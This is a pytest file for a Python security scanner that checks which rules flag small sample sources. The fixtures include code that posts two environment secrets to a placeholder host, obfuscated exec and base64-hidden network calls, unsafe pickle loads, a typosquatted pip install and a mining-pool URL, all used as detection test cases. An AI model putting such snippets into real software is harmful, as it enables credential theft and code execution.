"""Rule behaviour on small sources: what is flagged, what is deliberately not, and the bad-input cases."""

from __future__ import annotations

import base64
import zipfile
from pathlib import Path

import pytest

from partyflow.security.scanner import ScanError, ScanOptions, Severity, scan, scan_source
from partyflow.security.scanner.depnames import edit_distance, typosquat_of


def worst(source: str, name: str = "mod.py") -> Severity | None:
    return max((f.severity for f in scan_source(source, name)), default=None)


def rules(source: str, name: str = "mod.py") -> dict[str, Severity]:
    found: dict[str, Severity] = {}
    for f in scan_source(source, name):
        found[f.rule_id] = max(found.get(f.rule_id, Severity.LOW), f.severity)
    return found


def test_one_configured_key_sent_to_its_api_is_fine() -> None:
    src = ("import os, requests\n"
           "def call(prompt):\n"
           "    key = os.environ['ACME_API_KEY']\n"
           "    return requests.post('https://api.acme.invalid', headers={'Authorization': key}, json=prompt)\n")
    assert "PF106" not in rules(src)


def test_two_keys_sent_together_is_theft() -> None:
    src = ("import os, requests\n"
           "def call():\n"
           "    a = os.environ['ACME_API_KEY']; b = os.getenv('AWS_SECRET_ACCESS_KEY')\n"
           "    requests.post('https://x.invalid', json={'a': a, 'b': b})\n")
    assert rules(src)["PF106"] is Severity.CRITICAL


def test_exec_of_literal_fragments_is_folded_and_scanned() -> None:
    src = "exec('import os; os.sys' + 'tem(\"echo hi\")')\n"
    found = scan_source(src, "m.py")
    assert any(f.rule_id == "PF101" and f.severity is Severity.HIGH for f in found)


def test_blob_decoding_to_code_is_scanned_inside() -> None:
    payload = base64.b64encode(b"import urllib.request\nurllib.request.urlopen('https://x.invalid')\n" * 4).decode()
    found = scan_source(f"DATA = '{payload}'\n", "m.py")
    assert any(f.rule_id == "PF102" and f.severity >= Severity.HIGH for f in found)
    nested = [f for f in found if f.message.startswith("in decoded payload")]
    assert nested and all(f.line == 1 for f in nested)


def test_torch_and_pickle() -> None:
    assert "PF109" not in rules("import torch\ntorch.load('m.pt', weights_only=True)\n")
    assert rules("import torch\ntorch.load('m.pt')\n")["PF109"] is Severity.MEDIUM
    # a file (a cache, a checkpoint): a vulnerability if someone can swap it, how many honest libraries work
    assert rules("import pickle\npickle.load(open('x', 'rb'))\n")["PF109"] is Severity.MEDIUM
    # a blob in the code or data from the network is a payload
    assert rules("import pickle\npickle.loads(b'\\x80\\x04K\\x01.')\n")["PF109"] is Severity.CRITICAL
    assert rules("import pickle, base64\npickle.loads(base64.b64decode(B))\n")["PF109"] is Severity.CRITICAL
    assert "PF109" not in rules("from safetensors.torch import load_file\nload_file('m.safetensors')\n")


def test_subprocess_ffmpeg_is_low_and_import_time_spawn_high() -> None:
    assert worst("import subprocess\ndef f(p):\n    subprocess.run(['ffmpeg', '-i', p], check=True)\n") \
        is Severity.LOW
    assert rules("import subprocess\nsubprocess.Popen(['/tmp/agent'])\n")["PF103"] is Severity.HIGH


def test_install_script_pip_on_own_requirements_is_low() -> None:
    src = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'r.txt'])\n"
    assert worst(src, "install.py") is Severity.LOW
    bad = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'reqeusts'])\n"
    assert rules(bad, "install.py")["PF201"] is Severity.HIGH


def test_aliases_and_getattr_resolve() -> None:
    src = "import subprocess as sp\nimport base64 as b\nsp.Popen(b.b64decode('ZWNobw==').decode())\n"
    assert rules(src)["PF103"] is Severity.CRITICAL
    src2 = "import builtins, base64\ngetattr(builtins, 'exec')(base64.b64decode('cGFzcw=='))\n"
    assert rules(src2)["PF101"] is Severity.CRITICAL


def test_typosquat_names() -> None:
    assert typosquat_of("reqeusts") == "requests"
    assert typosquat_of("requests") is None and typosquat_of("scipy") is None and typosquat_of("torchx") is None
    assert typosquat_of("numpy") is None and typosquat_of("my-own-lib") is None
    assert edit_distance("abcd", "abdc") == 1


def test_scanning_never_runs_code(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "__init__.py").write_text(f"open({str(marker)!r}, 'w').write('x')\nraise SystemExit(3)\n")
    (pack / "install.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    scan(pack)
    assert not marker.exists()


def test_bad_inputs(tmp_path: Path) -> None:
    with pytest.raises(ScanError, match="no such file"):
        scan(tmp_path / "missing" / "x")
    with pytest.raises(ScanError, match="neither a path nor an installed pack"):
        scan("no_such_pack", home=tmp_path / "home")
    binary = tmp_path / "blob.dat"
    binary.write_bytes(bytes(range(256)) * 100)
    assert scan(binary).skipped[0].reason == "binary data"
    huge = tmp_path / "huge.py"
    huge.write_text("x = 1\n" * 200_000)
    report = scan(huge, options=ScanOptions(max_python_bytes=100_000, use_bandit=False))
    assert report.findings[0].rule_id == "PF100" and report.findings[0].severity is Severity.HIGH
    bad = tmp_path / "py2.py"
    bad.write_text("print 'hello'\n")
    assert scan(bad).findings[0].rule_id == "PF100"
    notes = tmp_path / "notes.md"
    notes.write_text("# notes\nstratum+tcp://pool.example.invalid:3333\n")
    assert scan(notes).findings[0].severity is Severity.CRITICAL


def test_wheels_and_pth(tmp_path: Path) -> None:
    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("pkg/__init__.py", "import os\nos.system('echo hi')\n")
        archive.writestr("pkg.pth", "/some/path\n")
    report = scan(wheel)
    assert {f.rule_id for f in report.findings} >= {"PF111"}
    assert any(f.path == "pkg-1.0-py3-none-any.whl!pkg/__init__.py" for f in report.findings)
    torch_weights = tmp_path / "model.pth"
    torch_weights.write_bytes(b"\x80\x02}q\x00.")  # a pickle of {}: a checkpoint, not a site .pth
    assert not scan(torch_weights).findings


def test_symlink_out_of_the_pack_is_flagged(tmp_path: Path) -> None:
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "__init__.py").write_text("")
    (pack / "web").symlink_to(Path.home())
    report = scan(pack)
    assert any(f.rule_id == "PF107" and f.path == "web" for f in report.findings)


def test_nosec_comments_do_not_hide_bandit_findings(tmp_path: Path) -> None:
    import bandit  # noqa: F401  a core dependency: this test never skips
    src = tmp_path / "m.py"
    src.write_text("import subprocess\ndef f(c):\n    subprocess.call(c, shell=True)  # nosec\n")
    report = scan(src)
    assert any(f.tool == "bandit" for f in report.findings)
    assert report.tools["bandit"] != "not installed"
    assert all(f.severity <= Severity.MEDIUM for f in report.findings if f.tool == "bandit")
